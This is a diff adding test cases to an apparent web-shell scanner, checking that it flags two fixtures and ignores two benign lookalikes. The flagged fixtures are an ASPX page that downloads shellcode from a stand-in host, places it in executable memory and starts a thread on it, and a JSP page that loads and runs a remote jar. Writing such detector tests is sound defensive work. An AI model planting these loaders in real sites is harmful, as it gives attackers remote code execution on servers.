@@ -578,3 +578,49 @@ def test_java_apis_that_run_what_they_read():
     assert not flagged("books.jsp", JSP_SQL_STATEMENT)
     assert signals(JSP_BCEL).get("jsp_define_class") == 9
     assert flagged("b.jsp", JSP_BCEL)
+
+
+# --- code fetched and run in memory ---------------------------------------------------------------------------
+
+ASPX_SHELLCODE_RUNNER = """<%@ Page Language="C#" %>
+<script runat="server">
+[System.Runtime.InteropServices.DllImport("kernel32")]
+static extern IntPtr VirtualAlloc(IntPtr at, UIntPtr size, Int32 kind, IntPtr protect);
+[System.Runtime.InteropServices.DllImport("kernel32")]
+static extern IntPtr CreateThread(IntPtr attrs, UIntPtr stack, IntPtr start, IntPtr arg, Int32 flags, ref IntPtr id);
+void Page_Load(object s, EventArgs e) {
+  byte[] code = new System.Net.WebClient().DownloadData("https://example.invalid/blob");
+  IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)code.Length, 0x1000, (IntPtr)0x40);
+  System.Runtime.InteropServices.Marshal.Copy(code, 0, mem, code.Length);
+  IntPtr id = IntPtr.Zero; CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, ref id);
+}
+</script>"""
+# An admin page that reports memory through the same library, starting no thread.
+ASPX_MEMORY_REPORT = """<%@ Page Language="C#" %>
+<script runat="server">
+[System.Runtime.InteropServices.DllImport("kernel32")]
+static extern bool GlobalMemoryStatusEx(ref MEMORYSTATUSEX status);
+void Page_Load(object s, EventArgs e) { var m = new MEMORYSTATUSEX(); GlobalMemoryStatusEx(ref m); Label1.Text = "ok"; }
+</script>"""
+JSP_REMOTE_JAR = """<%@ page import="java.net.*" %>
+<%
+URL jar = new URL("http://example.invalid/tool.jar");
+URLClassLoader loader = new URLClassLoader(new URL[] { jar });
+loader.loadClass("Tool").getMethod("main", String[].class).invoke(null, (Object) new String[0]);
+%>"""
+JSP_LOCAL_PLUGINS = """<%@ page import="java.net.*,java.io.File" %>
+<%
+File dir = new File(application.getRealPath("/WEB-INF/plugins"));
+URLClassLoader loader = new URLClassLoader(new URL[] { dir.toURI().toURL() });
+%>"""
+
+
+def test_shellcode_and_classes_fetched_and_run_in_memory():
+    assert signals(ASPX_SHELLCODE_RUNNER).get("aspx_shellcode_runner") == 10
+    assert flagged("run.aspx", ASPX_SHELLCODE_RUNNER)
+    assert "aspx_shellcode_runner" not in signals(ASPX_MEMORY_REPORT)
+    assert not flagged("memory.aspx", ASPX_MEMORY_REPORT)
+    assert signals(JSP_REMOTE_JAR).get("jsp_remote_class_load") == 10
+    assert flagged("jar.jsp", JSP_REMOTE_JAR)
+    assert "jsp_remote_class_load" not in signals(JSP_LOCAL_PLUGINS)
+    assert not flagged("plugins.jsp", JSP_LOCAL_PLUGINS)
